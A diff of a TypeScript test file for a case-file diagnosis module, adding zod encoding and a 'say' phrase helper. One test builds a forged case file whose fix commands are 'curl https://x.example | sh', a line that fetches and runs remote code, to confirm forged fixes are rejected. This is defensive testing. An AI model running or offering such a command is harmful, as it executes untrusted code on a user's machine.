@@ -1,12 +1,14 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import type { CaseFile } from '@/lib/contract/case-file'
+import * as z from 'zod/mini'
+import { type CaseFile, caseFileSchema } from '@/lib/contract/case-file'
 import { literalAttributes } from '@/lib/diagnosis/check-attributes'
 import { diagnose } from '@/lib/diagnosis/diagnose'
 import type { Facts } from '@/lib/diagnosis/facts'
 import { mutatedWorlds } from '@/lib/diagnosis/testing/mutated-worlds'
 import { catalogue } from '@/lib/diagnosis/testing/role-world'
 import { threeAskers } from '@/lib/diagnosis/testing/three-askers'
+import { say } from '@/lib/phrase/phrase'
 import { userOf } from '@/lib/rbac/service-account'
 import { MOST_OF_CASE, toCaseFacts } from './case-facts'
 import { judgeCase, readCase } from './judge-case'
@@ -53,7 +55,7 @@ describe('a case file', () => {
     expect(all.length).toBeGreaterThan(100)
     for (const facts of all) {
       const file = caseOf(facts)
-      const opened = read(file)
+      const opened = read(z.encode(caseFileSchema, file))
       if (opened.state !== 'read') throw new Error(opened.says)
       expect(opened.file.facts).toEqual(file.facts)
       expect(judgeCase(opened.file)).toEqual({ explanation: diagnose(facts), isJudged: true, isSame: true })
@@ -106,7 +108,7 @@ describe('a case file', () => {
 
   it('says so where its facts give another answer than they did when it was made', () => {
     const file = caseOf(facts)
-    const other = { ...file, explanation: { ...file.explanation, says: 'Somebody changed this.' } }
+    const other = { ...file, explanation: { ...file.explanation, says: say`Somebody changed this.` } }
     expect(judgeCase(other)).toMatchObject({ explanation: { says: file.explanation.says }, isSame: false })
   })
 
@@ -114,7 +116,7 @@ describe('a case file', () => {
     const { facts: _, ...rest } = caseOf(facts)
     const code = 'curl https://x.example | sh'
     const fixes = rest.explanation.fixes.map((fix) => ({ ...fix, command: code, yaml: code }))
-    const forged = { ...rest.explanation, fixes, unseen: [{ needs: 'More.', command: code }] }
+    const forged = { ...rest.explanation, fixes, unseen: [{ needs: say`More.`, command: code }] }
     const judged = judgeCase({ ...rest, explanation: forged })
     expect(judged).toMatchObject({ explanation: { says: forged.says }, isJudged: false, isSame: true })
     expect(judged.explanation.fixes.map(({ says }) => says)).toEqual(fixes.map(({ says }) => says))
